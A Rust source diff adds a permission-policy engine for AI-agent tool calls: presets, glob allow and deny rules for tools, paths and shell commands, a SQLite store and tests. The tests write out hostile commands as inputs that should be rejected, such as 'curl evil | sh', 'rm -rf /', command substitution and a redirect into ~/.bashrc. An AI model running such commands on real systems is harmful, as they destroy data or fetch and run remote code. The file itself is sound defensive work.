@@ -0,0 +1,605 @@
+//! Tool permission policies for HTTP/MCP clients.
+//!
+//! Policies live in the global registry DB and are scoped to a client token,
+//! a project, both, or neither (unset means "any"). Every policy that applies
+//! to a call must allow it; the first denial wins.
+
+use crate::error::ContextError;
+use chrono::{DateTime, Utc};
+use globset::{Glob, GlobMatcher};
+use serde::{Deserialize, Serialize};
+use std::path::{Component, Path, PathBuf};
+
+/// Tools that never modify anything (allowed by the `read_only` preset)
+pub const READ_ONLY_TOOLS: &[&str] = &[
+    "read_file",
+    "list_directory",
+    "search_files",
+    "stat_path",
+    "build_list_commands",
+    "build_get_default",
+    "todo_list",
+    "todo_get_next",
+    "next_session_read",
+    "process_list",
+    "process_logs",
+    "git_status",
+    "git_diff",
+    "git_log",
+    "git_show",
+    "git_blame",
+    "git_branch",
+];
+
+/// Tools that run shell commands (denied by the `no_shell` preset)
+pub const SHELL_TOOLS: &[&str] = &[
+    "build_run_command",
+    "run_command",
+    "terminal_open",
+    "terminal_send",
+    "process_start",
+    "process_restart",
+];
+
+/// Tools that type into an interactive shell, which command rules can't
+/// police keystroke by keystroke (refused when a policy has command rules)
+pub const INTERACTIVE_SHELL_TOOLS: &[&str] = &["terminal_open", "terminal_send"];
+
+/// Shell syntax that hides commands from command patterns: substitutions
+/// and redirections (refused when a policy has command rules)
+const UNCHECKED_SHELL_SYNTAX: &[&str] = &["$(", "`", ">", "<"];
+
+/// Argument keys that hold file paths
+pub const PATH_ARG_KEYS: &[&str] = &["path", "source", "destination", "cwd"];
+
+/// Argument keys that hold arrays of file paths
+pub const PATH_LIST_ARG_KEYS: &[&str] = &["paths"];
+
+/// Built-in rule sets
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum PolicyPreset {
+    /// Only tools in [`READ_ONLY_TOOLS`]
+    ReadOnly,
+    /// Everything except tools in [`SHELL_TOOLS`]
+    NoShell,
+}
+
+/// Allow/deny rules of a policy
+///
+/// Tool names, paths and commands are glob patterns. An empty allow list
+/// allows everything; deny lists are checked first.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct ToolPolicyRules {
+    #[serde(default)]
+    pub preset: Option<PolicyPreset>,
+    #[serde(default)]
+    pub allow_tools: Vec<String>,
+    #[serde(default)]
+    pub deny_tools: Vec<String>,
+    /// Paths relative to the project root (absolute for paths outside it)
+    #[serde(default)]
+    pub allow_paths: Vec<String>,
+    #[serde(default)]
+    pub deny_paths: Vec<String>,
+    /// Shell commands, e.g. `cargo *`. Each command of a `;`, `&&`, `||` or
+    /// `|` sequence must be allowed; substitutions and redirections are refused.
+    /// Any command rule also refuses the terminal tools
+    /// ([`INTERACTIVE_SHELL_TOOLS`]) and calls that set environment variables
+    /// or stdin, which can change what an allowed command runs.
+    #[serde(default)]
+    pub allow_commands: Vec<String>,
+    #[serde(default)]
+    pub deny_commands: Vec<String>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ToolPolicy {
+    pub id: String,
+    /// Client token id, or `None` for every client
+    pub client_id: Option<String>,
+    /// Project id, or `None` for every project
+    pub project_id: Option<String>,
+    #[serde(flatten)]
+    pub rules: ToolPolicyRules,
+    pub created_at: DateTime<Utc>,
+}
+
+/// Input for creating a policy
+#[derive(Debug, Clone, Default, Deserialize)]
+pub struct NewToolPolicy {
+    #[serde(default)]
+    pub client_id: Option<String>,
+    #[serde(default)]
+    pub project_id: Option<String>,
+    #[serde(flatten)]
+    pub rules: ToolPolicyRules,
+}
+
+/// A tool call as seen by the policy engine
+#[derive(Debug, Clone, Default)]
+pub struct PolicyRequest {
+    pub tool_name: String,
+    /// Paths the call touches, normalized with [`policy_path`]
+    pub paths: Vec<String>,
+    /// Shell command the call would run
+    pub command: Option<String>,
+    /// Environment variables the call sets for the command
+    pub env: Vec<String>,
+    /// The call writes to the command's stdin
+    pub stdin: bool,
+}
+
+pub struct ToolPolicyStore {
+    db_path: String,
+}
+
+impl ToolPolicyStore {
+    /// Open the store, creating its table if needed
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the database can't be opened
+    pub fn new(db_path: &str) -> Result<Self, ContextError> {
+        let store = Self {
+            db_path: db_path.to_string(),
+        };
+        store.init_schema()?;
+        Ok(store)
+    }
+
+    fn get_db(&self) -> Result<rusqlite::Connection, ContextError> {
+        Ok(rusqlite::Connection::open(&self.db_path)?)
+    }
+
+    fn init_schema(&self) -> Result<(), ContextError> {
+        let db = self.get_db()?;
+        db.execute(
+            "CREATE TABLE IF NOT EXISTS tool_policies (
+                id TEXT PRIMARY KEY,
+                client_id TEXT,
+                project_id TEXT,
+                rules TEXT NOT NULL,
+                created_at TEXT NOT NULL
+            )",
+            [],
+        )?;
+        Ok(())
+    }
+
+    /// All policies, oldest first
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the database query fails
+    pub fn list(&self) -> Result<Vec<ToolPolicy>, ContextError> {
+        self.query("", &[])
+    }
+
+    /// Policies that apply to `client_id` (if any) calling tools in `project_id`
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the database query fails
+    pub fn for_call(
+        &self,
+        client_id: Option<&str>,
+        project_id: &str,
+    ) -> Result<Vec<ToolPolicy>, ContextError> {
+        self.query(
+            "WHERE (client_id IS NULL OR client_id = ?1)
+               AND (project_id IS NULL OR project_id = ?2)",
+            &[&client_id, &project_id],
+        )
+    }
+
+    fn query(
+        &self,
+        filter: &str,
+        params: &[&dyn rusqlite::ToSql],
+    ) -> Result<Vec<ToolPolicy>, ContextError> {
+        let db = self.get_db()?;
+        let mut stmt = db.prepare(&format!(
+            "SELECT id, client_id, project_id, rules, created_at FROM tool_policies {filter}
+             ORDER BY created_at ASC"
+        ))?;
+
+        let rows = stmt.query_map(params, |row| {
+            Ok(ToolPolicy {
+                id: row.get(0)?,
+                client_id: row.get(1)?,
+                project_id: row.get(2)?,
+                rules: serde_json::from_str(&row.get::<_, String>(3)?).unwrap_or_default(),
+                created_at: row
+                    .get::<_, String>(4)?
+                    .parse()
+                    .unwrap_or_else(|_| Utc::now()),
+            })
+        })?;
+
+        rows.collect::<Result<Vec<_>, _>>()
+            .map_err(|e| ContextError::Database(e.to_string()))
+    }
+
+    /// Add a policy after validating its glob patterns.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if a pattern is invalid or the policy can't be saved
+    pub fn add(&self, policy: NewToolPolicy) -> Result<ToolPolicy, ContextError> {
+        policy.rules.validate()?;
+
+        let id = uuid::Uuid::new_v4().to_string();
+        let now = Utc::now();
+        let rules = serde_json::to_string(&policy.rules)
+            .map_err(|e| ContextError::Config(e.to_string()))?;
+
+        let db = self.get_db()?;
+        db.execute(
+            "INSERT INTO tool_policies (id, client_id, project_id, rules, created_at)
+             VALUES (?1, ?2, ?3, ?4, ?5)",
+            rusqlite::params![id, policy.client_id, policy.project_id, rules, now.to_rfc3339()],
+        )?;
+
+        Ok(ToolPolicy {
+            id,
+            client_id: policy.client_id,
+            project_id: policy.project_id,
+            rules: policy.rules,
+            created_at: now,
+        })
+    }
+
+    /// Delete a policy
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if no policy has this id
+    pub fn remove(&self, id: &str) -> Result<(), ContextError> {
+        let db = self.get_db()?;
+        let rows = db.execute("DELETE FROM tool_policies WHERE id = ?1", [id])?;
+        if rows == 0 {
+            return Err(ContextError::NotInContext(id.to_string()));
+        }
+        Ok(())
+    }
+}
+
+impl ToolPolicyRules {
+    /// Check that every pattern is a valid glob.
+    ///
+    /// # Errors
+    ///
+    /// Returns `ContextError::Config` naming the first invalid pattern
+    pub fn validate(&self) -> Result<(), ContextError> {
+        let patterns = [
+            &self.allow_tools,
+            &self.deny_tools,
+            &self.allow_paths,
+            &self.deny_paths,
+            &self.allow_commands,
+            &self.deny_commands,
+        ];
+        for pattern in patterns.into_iter().flatten() {
+            Glob::new(pattern)
+                .map_err(|e| ContextError::Config(format!("Invalid pattern '{pattern}': {e}")))?;
+        }
+        Ok(())
+    }
+
+    /// Check a call against these rules.
+    ///
+    /// # Errors
+    ///
+    /// Returns the reason the call is denied
+    pub fn check(&self, request: &PolicyRequest) -> Result<(), String> {
+        let tool = request.tool_name.as_str();
+        match self.preset {
+            Some(PolicyPreset::ReadOnly) if !READ_ONLY_TOOLS.contains(&tool) => {
+                return Err(format!("'{tool}' is not allowed for read-only clients"));
+            }
+            Some(PolicyPreset::NoShell) if SHELL_TOOLS.contains(&tool) => {
+                return Err(format!("'{tool}' runs shell commands"));
+            }
+            _ => {}
+        }
+
+        check_value("Tool", tool, &self.allow_tools, &self.deny_tools)?;
+        let has_command_rules = !self.allow_commands.is_empty() || !self.deny_commands.is_empty();
+        if has_command_rules && INTERACTIVE_SHELL_TOOLS.contains(&tool) {
+            return Err(format!(
+                "'{tool}' opens an interactive shell, which command rules can't check"
+            ));
+        }
+        if has_command_rules && !request.env.is_empty() {
+            return Err(format!(
+                "Setting environment variables ({}) can change what a command runs, \
+                 which command rules can't check",
+                request.env.join(", ")
+            ));
+        }
+        if has_command_rules && request.stdin {
+            return Err("Input on stdin can't be checked by command rules".to_string());
+        }
+        for path in &request.paths {
+            check_value("Path", path, &self.allow_paths, &self.deny_paths)?;
+        }
+        if let Some(command) = &request.command {
+            self.check_command(command)?;
+        }
+        Ok(())
+    }
+
+    /// Check every command of a command line against the command rules.
+    fn check_command(&self, command: &str) -> Result<(), String> {
+        let (allow, deny) = (&self.allow_commands, &self.deny_commands);
+        if allow.is_empty() && deny.is_empty() {
+            return Ok(());
+        }
+        if let Some(syntax) = UNCHECKED_SHELL_SYNTAX.iter().find(|s| command.contains(*s)) {
+            return Err(format!(
+                "Command '{}' uses '{}', which command rules can't check",
+                command.trim(),
+                syntax
+            ));
+        }
+        let mut segments = command_segments(command).peekable();
+        if segments.peek().is_none() {
+            return check_value("Command", command.trim(), allow, deny);
+        }
+        segments.try_for_each(|segment| check_value("Command", segment, allow, deny))
+    }
+}
+
+/// The commands a command line runs, split at `;`, `|`, `&` and newlines.
+///
+/// Quotes are not parsed, so a quoted separator splits too; that can only make
+/// a command fail to match, never let an extra command through.
+fn command_segments(command: &str) -> impl Iterator<Item = &str> {
+    command
+        .split([';', '|', '&', '\n', '\r'])
+        .map(str::trim)
+        .filter(|segment| !segment.is_empty())
+}
+
+/// Check a call against every applicable policy.
+///
+/// # Errors
+///
+/// Returns the denying policy's id and reason
+pub fn evaluate(policies: &[ToolPolicy], request: &PolicyRequest) -> Result<(), String> {
+    for policy in policies {
+        policy
+            .rules
+            .check(request)
+            .map_err(|reason| format!("{} (policy {})", reason, policy.id))?;
+    }
+    Ok(())
+}
+
+fn check_value(kind: &str, value: &str, allow: &[String], deny: &[String]) -> Result<(), String> {
+    if let Some(pattern) = deny.iter().find(|p| glob_matches(p, value)) {
+        return Err(format!(
+            "{kind} '{value}' matches denied pattern '{pattern}'"
+        ));
+    }
+    if !allow.is_empty() && !allow.iter().any(|p| glob_matches(p, value)) {
+        return Err(format!("{kind} '{value}' is not in the allowed list"));
+    }
+    Ok(())
+}
+
+pub(crate) fn glob_matches(pattern: &str, value: &str) -> bool {
+    Glob::new(pattern)
+        .map(|glob| glob.compile_matcher())
+        .is_ok_and(|matcher: GlobMatcher| matcher.is_match(value))
+}
+
+/// Normalize a tool path argument for matching against path patterns.
+///
+/// `.` and `..` are resolved lexically; paths inside `root` become relative
+/// to it (with `/` separators), anything else stays absolute.
+#[must_use]
+pub fn policy_path(path: &str, root: Option<&Path>) -> String {
+    let raw = Path::new(path);
+    let joined = match root {
+        Some(root) if raw.is_relative() => root.join(raw),
+        _ => raw.to_path_buf(),
+    };
+
+    let mut normalized = PathBuf::new();
+    for component in joined.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => {
+                normalized.pop();
+            }
+            other => normalized.push(other),
+        }
+    }
+
+    let relative = root.and_then(|root| normalized.strip_prefix(root).ok());
+    match relative {
+        Some(rel) if rel.as_os_str().is_empty() => ".".to_string(),
+        Some(rel) => rel
+            .components()
+            .map(|c| c.as_os_str().to_string_lossy())
+            .collect::<Vec<_>>()
+            .join("/"),
+        None => normalized.to_string_lossy().to_string(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    fn request(tool: &str, paths: &[&str], command: Option<&str>) -> PolicyRequest {
+        PolicyRequest {
+            tool_name: tool.to_string(),
+            paths: paths.iter().map(|p| (*p).to_string()).collect(),
+            command: command.map(str::to_string),
+            ..PolicyRequest::default()
+        }
+    }
+
+    fn strings(values: &[&str]) -> Vec<String> {
+        values.iter().map(|v| (*v).to_string()).collect()
+    }
+
+    #[test]
+    fn read_only_preset_blocks_writes() {
+        let rules = ToolPolicyRules {
+            preset: Some(PolicyPreset::ReadOnly),
+            ..ToolPolicyRules::default()
+        };
+        assert!(rules.check(&request("read_file", &["a.txt"], None)).is_ok());
+        let err = rules.check(&request("write_file", &["a.txt"], None)).unwrap_err();
+        assert!(err.contains("read-only"));
+    }
+
+    #[test]
+    fn no_shell_preset_blocks_build_runs() {
+        let rules = ToolPolicyRules {
+            preset: Some(PolicyPreset::NoShell),
+            ..ToolPolicyRules::default()
+        };
+        assert!(rules.check(&request("write_file", &["a.txt"], None)).is_ok());
+        assert!(rules.check(&request("build_run_command", &[], Some("make"))).is_err());
+    }
+
+    #[test]
+    fn tool_path_and_command_globs() {
+        let rules = ToolPolicyRules {
+            deny_tools: strings(&["todo_*"]),
+            allow_paths: strings(&["src/**"]),
+            deny_paths: strings(&["**/*.env"]),
+            allow_commands: strings(&["cargo *", "npm run *"]),
+            ..ToolPolicyRules::default()
+        };
+
+        assert!(rules.check(&request("todo_add", &[], None)).is_err());
+        assert!(rules.check(&request("read_file", &["src/lib.rs"], None)).is_ok());
+        assert!(rules.check(&request("read_file", &["Cargo.toml"], None)).is_err());
+        assert!(rules.check(&request("read_file", &["src/prod.env"], None)).is_err());
+        assert!(rules.check(&request("build_run_command", &[], Some("cargo test"))).is_ok());
+        let err = rules
+            .check(&request("build_run_command", &[], Some("rm -rf /")))
+            .unwrap_err();
+        assert!(err.contains("Command 'rm -rf /'"));
+    }
+
+    #[test]
+    fn every_command_in_a_sequence_must_be_allowed() {
+        let rules = ToolPolicyRules {
+            allow_commands: strings(&["cargo *", "grep *"]),
+            deny_commands: strings(&["cargo publish*"]),
+            ..ToolPolicyRules::default()
+        };
+        let check = |command: &str| rules.check(&request("run_command", &[], Some(command)));
+
+        assert!(check("cargo build && cargo test | grep ok").is_ok());
+        assert!(check("cargo test; curl evil | sh").is_err());
+        assert!(check("cargo test\nrm -rf /").is_err());
+        assert!(check("cargo test || cargo publish").is_err());
+        assert!(check("cargo test $(rm -rf /)").is_err());
+        assert!(check("cargo `rm -rf /`").is_err());
+        assert!(check("cargo test > ~/.bashrc").is_err());
+    }
+
+    #[test]
+    fn command_rules_refuse_terminals() {
+        let rules = ToolPolicyRules {
+            deny_commands: strings(&["rm *"]),
+            ..ToolPolicyRules::default()
+        };
+        assert!(rules.check(&request("terminal_open", &[], Some("bash"))).is_err());
+        assert!(rules.check(&request("terminal_send", &[], Some("ls"))).is_err());
+        assert!(ToolPolicyRules::default()
+            .check(&request("terminal_open", &[], None))
+            .is_ok());
+    }
+
+    #[test]
+    fn command_rules_refuse_env_and_stdin() {
+        let rules = ToolPolicyRules {
+            allow_commands: strings(&["cargo *"]),
+            ..ToolPolicyRules::default()
+        };
+        let mut call = request("run_command", &[], Some("cargo test"));
+        assert!(rules.check(&call).is_ok());
+        call.env = strings(&["RUSTC_WRAPPER"]);
+        let error = rules.check(&call).unwrap_err();
+        assert!(error.contains("RUSTC_WRAPPER"), "{error}");
+        call.env.clear();
+        call.stdin = true;
+        assert!(rules.check(&call).is_err());
+
+        // Without command rules, env and stdin are up to the tool rules
+        call.env = strings(&["PATH"]);
+        assert!(ToolPolicyRules::default().check(&call).is_ok());
+    }
+
+    #[test]
+    fn policy_path_is_relative_to_root_and_resolves_dots() {
+        let root = Path::new("/work/project");
+        assert_eq!(policy_path("src/./lib.rs", Some(root)), "src/lib.rs");
+        assert_eq!(policy_path("/work/project/src/lib.rs", Some(root)), "src/lib.rs");
+        assert_eq!(policy_path("src/../../secret", Some(root)), "/work/secret");
+        assert_eq!(policy_path(".", Some(root)), ".");
+        assert_eq!(policy_path("/etc/passwd", Some(root)), "/etc/passwd");
+    }
+
+    #[tokio::test]
+    async fn store_scopes_policies_by_client_and_project() {
+        let temp = TempDir::new().unwrap();
+        let db_path = temp.path().join("registry.db");
+        let store = ToolPolicyStore::new(db_path.to_str().unwrap()).unwrap();
+
+        store
+            .add(NewToolPolicy {
+                client_id: Some("client-a".to_string()),
+                project_id: None,
+                rules: ToolPolicyRules {
+                    preset: Some(PolicyPreset::ReadOnly),
+                    ..ToolPolicyRules::default()
+                },
+            })
+            .unwrap();
+        let global = store.add(NewToolPolicy::default()).unwrap();
+        store
+            .add(NewToolPolicy {
+                client_id: None,
+                project_id: Some("other".to_string()),
+                rules: ToolPolicyRules::default(),
+            })
+            .unwrap();
+
+        assert_eq!(store.for_call(Some("client-a"), "p1").unwrap().len(), 2);
+        assert_eq!(store.for_call(Some("client-b"), "p1").unwrap().len(), 1);
+        assert_eq!(store.for_call(None, "other").unwrap().len(), 2);
+
+        let policies = store.for_call(Some("client-a"), "p1").unwrap();
+        let denied = evaluate(&policies, &request("write_file", &["a"], None)).unwrap_err();
+        assert!(denied.contains("policy"));
+
+        store.remove(&global.id).unwrap();
+        assert_eq!(store.list().unwrap().len(), 2);
+    }
+
+    #[tokio::test]
+    async fn add_rejects_invalid_globs() {
+        let temp = TempDir::new().unwrap();
+        let db_path = temp.path().join("registry.db");
+        let store = ToolPolicyStore::new(db_path.to_str().unwrap()).unwrap();
+        let result = store.add(NewToolPolicy {
+            rules: ToolPolicyRules {
+                allow_paths: strings(&["src/["]),
+                ..ToolPolicyRules::default()
+            },
+            ..NewToolPolicy::default()
+        });
+        assert!(matches!(result, Err(ContextError::Config(_))));
+    }
+}